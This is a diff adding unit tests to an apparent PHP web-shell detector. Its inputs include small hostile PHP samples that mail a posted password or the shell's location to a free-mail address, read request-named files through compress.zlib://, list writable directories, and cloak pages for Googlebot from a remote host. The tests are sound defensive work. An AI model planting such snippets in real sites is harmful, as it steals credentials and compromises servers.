@@ -367,6 +367,27 @@ static void test_php_tools(void) {
   /* a request value with a literal default is still the whole request value */
   d = analyze("PHP", "<?php $q = $_POST['sql'] ? $_POST['sql'] : 'select 1'; mysql_query($q);");
   CHECK(d && strcmp(d->rule, "shellsift.lang.sql-console") == 0 && d->score < 70);
+  /* a free-mail drop: where the shell sits, or what the visitor typed as a password */
+  d = analyze("PHP", "<?php mail('x.y@gmail.com', $_SERVER['HTTP_HOST'], $_SERVER['DOCUMENT_ROOT'] . $_SERVER['PHP_SELF']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.mail-exfil") == 0 && d->score >= 40 && d->score < 70);
+  d = analyze("PHP", "<?php $p = $_POST['passwd']; mail('x.y@yahoo.com', 'log', 'p=' . $p);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.mail-exfil") == 0 && strstr(d->description, "$_POST['passwd']"));
+  CHECK(!analyze("PHP", "<?php mail('x.y@gmail.com', 'Contact', strip_tags($_POST['message']));"));
+  CHECK(!analyze("PHP", "<?php mail($cfg['admin'], $_GET['s'], $_SERVER['DOCUMENT_ROOT']);"));
+  /* a request-named file read through compress.zlib:// */
+  d = analyze("PHP", "<?php $f = $_GET['f']; readfile('compress.zlib://' . $f);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.file-read") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php $k = md5($_GET['p']); readfile('compress.zlib://' . __DIR__ . '/c/' . $k);"));
+  /* a request-named folder walked for writable entries */
+  d = analyze("PHP", "<?php $d = opendir($_GET['d']); while ($f = readdir($d)) if (is_writable($f)) echo $f;");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.folder-scanner") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php $n = $_GET['n']; $d = opendir('/srv/x'); while ($f = readdir($d)) if (is_writable($f)) echo $n;"));
+  /* a crawler gets the page a remote server makes for this host */
+  d = analyze("PHP", "<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') !== false) "
+                     "echo file_get_contents('http://203.0.113.9/p?h=' . $_SERVER['HTTP_HOST']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.seo-cloaking") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') === false) "
+                        "echo file_get_contents('http://203.0.113.9/geo/' . $_SERVER['REMOTE_ADDR']);"));
   CHECK(!analyze("PHP", "<?php $q = $_GET['q'] ?? 'x'; mysql_query(\"SELECT 1 FROM t WHERE a = '\" . mysql_real_escape_string($q) . \"'\");"));
 }
 
